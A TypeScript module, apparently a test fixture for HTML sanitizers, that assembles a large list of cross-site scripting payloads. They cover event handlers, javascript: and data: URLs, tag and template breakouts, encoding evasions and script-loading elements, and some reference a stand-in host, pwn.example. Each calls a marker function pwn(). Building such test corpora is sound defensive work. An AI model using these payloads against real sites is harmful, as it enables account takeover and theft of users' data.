/**
 * Texts that run a script where they are taken for more than text: each calls `pwn()`, or makes an element that bears `data-pwn`.
 * The kinds follow what lists of such texts agree on: handlers of events, addresses that are scripts, ways out of where a text
 * stands, elements that run or load by being there, and what filters have overlooked.
 */

const HANDLERS = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['keygen autofocus', 'onfocus'],
  ['a autofocus href=#', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video src=x', 'onloadstart'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['iframe', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div style="animation:pulse 1s"', 'onanimationstart'],
  ['p style="transition:color 1s"', 'ontransitionrun'],
  ['div hidden=until-found', 'onbeforematch'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['math><maction actiontype=toggle', 'onclick'],
  ['button popovertarget=x', 'onbeforetoggle'],
] as const;

const WRITTEN = [
  (element: string, handler: string) => `<${element} ${handler}=pwn() data-pwn>`,
  (element: string, handler: string) => `"><${element} ${handler}="pwn()" data-pwn>`,
  (element: string, handler: string) => `'/><${element}/${handler.toUpperCase()}='pwn()'/data-pwn>`,
  (element: string, handler: string) => `<${element}\n${handler}\t=\n&#112;wn() data-pwn x=`,
];

const SCHEMES = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  ' javascript:pwn()',
  'java\tscript:pwn()',
  'java\nscript:pwn()',
  'javascript\t:pwn()',
  '\u0001javascript:pwn()',
  'javascript://%0apwn()',
  'javascript:/*--></title>*/pwn()',
  '&#106;avascript:pwn()',
  'javascript&colon;pwn()',
  'javascript&#x3a;pwn()',
  'vbscript:pwn()',
  'data:text/html,<script>parent.pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=pwn()>',
  'data:application/xhtml+xml,<x/>',
  'blob:null/pwn',
  'filesystem:http://x/pwn',
  'view-source:javascript:pwn()',
  '//pwn.example',
  'https:javascript:pwn()',
  'feed:javascript:pwn()',
  'jar:javascript:pwn()!/',
];

const BREAKOUTS = [
  '<script data-pwn>pwn()</script>',
  '</script><script data-pwn>pwn()</script>',
  '</script ><script data-pwn>pwn()//',
  '<!--<script>--><script data-pwn>pwn()</script>',
  '<!-- --!><script data-pwn>pwn()</script>',
  '--><script data-pwn>pwn()</script><!--',
  ']]><script data-pwn>pwn()</script><![CDATA[',
  '<![CDATA[<script data-pwn>pwn()</script>]]>',
  '</title><script data-pwn>pwn()</script>',
  '</textarea><script data-pwn>pwn()</script>',
  '</style><script data-pwn>pwn()</script>',
  '</noscript><script data-pwn>pwn()</script>',
  '</xmp><script data-pwn>pwn()</script>',
  '</iframe><script data-pwn>pwn()</script>',
  '</option></select><script data-pwn>pwn()</script>',
  '</template><script data-pwn>pwn()</script>',
  '<template shadowrootmode=open><script data-pwn>pwn()</script></template>',
  '<noscript><p title="</noscript><script data-pwn>pwn()</script>">',
  '<p title="<!--"><script data-pwn>pwn()</script>',
  '"-pwn()-"',
  "'-pwn()-'",
  '\\"-pwn()}//',
  "\\'-pwn()//",
  '`-pwn()-`',
  '\u0024{pwn()}',
  '{{constructor.constructor("pwn()")()}}',
  '{{$eval("pwn()")}}',
  '#{pwn()}',
  '<%= pwn() %>',
  '{"__html":"<b data-pwn>"}',
  '"}}</script><script data-pwn>pwn()</script>',
  '\u2028pwn()//',
  '\u2029pwn()//',
  '*/pwn()/*',
  '\r\nContent-Type: text/html\r\n\r\n<script data-pwn>pwn()</script>',
  '<scr<script>ipt data-pwn>pwn()</scr</script>ipt>',
  '<<script data-pwn>pwn()//<</script>',
  '<script/src=data:,pwn() data-pwn></script>',
  '<ſcript data-pwn>pwn()</ſcript>',
  '＜script data-pwn＞pwn()＜/script＞',
  '\u003cscript data-pwn\u003epwn()\u003c/script\u003e',
  '%3Cscript%20data-pwn%3Epwn()%3C/script%3E',
  '&lt;script data-pwn&gt;pwn()&lt;/script&gt;',
  '&amp;lt;script data-pwn&amp;gt;pwn()&amp;lt;/script&amp;gt;',
  '+ADw-script data-pwn+AD4-pwn()+ADw-/script+AD4-',
  '\u001b$B<script data-pwn>pwn()</script>\u001b(B',
  '<a\u0000 href=javascript:pwn() data-pwn>',
  '<\u0000script data-pwn>pwn()</script>',
];

const ELEMENTS = [
  '<a href="javascript:pwn()" data-pwn>x</a>',
  '<a href="https://x.example" onclick="pwn()" data-pwn>x</a>',
  '[x](javascript:pwn())',
  '![x" onerror="pwn()](x)',
  '<javascript:pwn()>',
  '<base href="//pwn.example/" data-pwn>',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()" data-pwn>',
  '<meta http-equiv=Content-Security-Policy content="script-src *" data-pwn>',
  '<form action=javascript:pwn() data-pwn><button>x',
  '<form id=x></form><button form=x formaction=javascript:pwn() data-pwn>x',
  '<input type=image src=x formaction=javascript:pwn() data-pwn>',
  '<iframe src=javascript:pwn() data-pwn></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>" data-pwn></iframe>',
  '<embed src=javascript:pwn() data-pwn>',
  '<object data=javascript:pwn() data-pwn></object>',
  '<applet code=x data-pwn></applet>',
  '<frameset onload=pwn() data-pwn><frame src=javascript:pwn()>',
  '<svg><script data-pwn>pwn()</script></svg>',
  '<svg><a xlink:href=javascript:pwn() data-pwn><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x" data-pwn/></svg>',
  '<svg><set attributeName=onload to=pwn() data-pwn></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:pwn() data-pwn></svg>',
  '<svg><foreignObject><body onload=pwn() data-pwn></foreignObject></svg>',
  '<svg><style><img title="</style><img src=x onerror=pwn() data-pwn>"></svg>',
  '<math><a xlink:href=javascript:pwn() data-pwn>x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=pwn() data-pwn>',
  '<math href="javascript:pwn()" data-pwn>x</math>',
  '<style data-pwn>@import "//pwn.example/x.css";</style>',
  '<link rel=stylesheet href=//pwn.example/x.css data-pwn>',
  '<link rel=import href=//pwn.example data-pwn>',
  '<div style="background:url(javascript:pwn())" data-pwn>',
  '<div style="width:expression(pwn())" data-pwn>',
  '<img src=javascript:pwn() data-pwn>',
  '<img srcset="x 1x, javascript:pwn() 2x" data-pwn>',
  '<img src=//pwn.example/x data-pwn>',
  '<picture data-pwn><source srcset=x onerror=pwn()><img>',
  '<video poster=javascript:pwn() data-pwn></video>',
  '<video><source src=x onerror=pwn() data-pwn></video>',
  '<isindex action=javascript:pwn() data-pwn>',
  '<table background=javascript:pwn() data-pwn>',
  '<xss id=x tabindex=1 onfocus=pwn() data-pwn></xss>',
  '<slot name=x onslotchange=pwn() data-pwn></slot>',
  '<dialog open oncancel=pwn() data-pwn>',
  '<a id=default-view data-pwn name=body>',
  '<form data-pwn><input name=attributes><input name=nodeName>',
  '<img name=currentScript data-pwn>',
  '<a ping=//pwn.example href=# data-pwn>x</a>',
  '<area shape=default href=javascript:pwn() data-pwn>',
];

export const HOSTILE: readonly string[] = [
  ...HANDLERS.flatMap(([element, handler]) => WRITTEN.map((write) => write(element, handler))),
  ...SCHEMES,
  ...BREAKOUTS,
  ...ELEMENTS,
];

/** All of them, together in texts of at most so many characters. */
export function inTextsOf(length: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const hostile of HOSTILE) {
    if (text && text.length + 1 + hostile.length > length) {
      texts.push(text);
      text = '';
    }
    text = text ? `${text} ${hostile}` : hostile;
  }
  return [...texts, text];
}
